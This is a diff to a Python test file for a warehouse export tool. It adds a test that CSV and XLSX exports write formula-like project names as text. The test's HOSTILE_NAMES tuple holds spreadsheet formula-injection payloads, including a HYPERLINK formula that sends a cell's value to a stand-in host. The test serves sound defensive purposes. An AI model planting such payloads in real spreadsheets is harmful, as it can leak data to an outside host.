@@ -288,6 +288,50 @@ def test_xlsx_has_a_sheet_per_view_and_exact_two_decimal_numbers(warehouse, tmp_
     assert sheet["B2"].number_format == "General"  # a year is not an amount
 
 
+# A project name printed so that a spreadsheet would run it: a formula with a live link, a
+# leading sign or @. Each name is the t12 row's, read back as the warehouse holds it.
+HOSTILE_NAMES = ('=HYPERLINK("http://x.test/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)")
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text(tmp_path):
+    doc = read_doc()
+    rows = doc["tables"]["t12_projects"]["rows"]
+    for row, name in zip(rows, HOSTILE_NAMES, strict=False):
+        row["name"] = name
+    rows[-1]["values"][2] = "-" + rows[-1]["values"][2]  # a negative amount stays a number
+    warehouse = tmp_path / "w.duckdb"
+    con = connect(warehouse)
+    load_document(con, make_extraction(doc))
+    con.close()
+    assert export(warehouse, tmp_path / "csv", "csv") == 0
+    assert export(warehouse, tmp_path / "xlsx", "xlsx") == 0
+
+    names = [name for name, _, _ in _columns(warehouse, "v_project_budget")]
+    column, amount = names.index("project_name"), names.index("amount_yuan")
+    table = _csv(tmp_path / "csv" / "v_project_budget.csv")
+    printed = {row[column] for row in table[1:]}
+    assert {"'" + name for name in HOSTILE_NAMES} <= printed  # the usual CSV guard
+    assert not printed & set(HOSTILE_NAMES)
+    negative = [row[amount] for row in table[1:] if row[amount].startswith("-")]
+    assert negative and all(Decimal(text) < 0 for text in negative)
+
+    sheet = load_workbook(tmp_path / "xlsx" / WORKBOOK)["v_project_budget"]
+    rows = list(sheet.iter_rows(min_row=2))
+    hostile = [row[column] for row in rows if row[column].value in HOSTILE_NAMES]
+    assert {c.value for c in hostile} == set(HOSTILE_NAMES)
+    assert {c.data_type for c in hostile} == {"s"}  # strings, no formula among them
+    assert {row[amount].data_type for row in rows} == {"n"}  # numbers stay numbers
+    assert any(row[amount].value < 0 for row in rows)
+
+
+def _columns(warehouse: Path, view: str) -> list[tuple[str, str, str]]:
+    con = connect(warehouse, read_only=True)
+    try:
+        return relation_columns(con, view)
+    finally:
+        con.close()
+
+
 # --- filters and errors --------------------------------------------------------------------
 
 
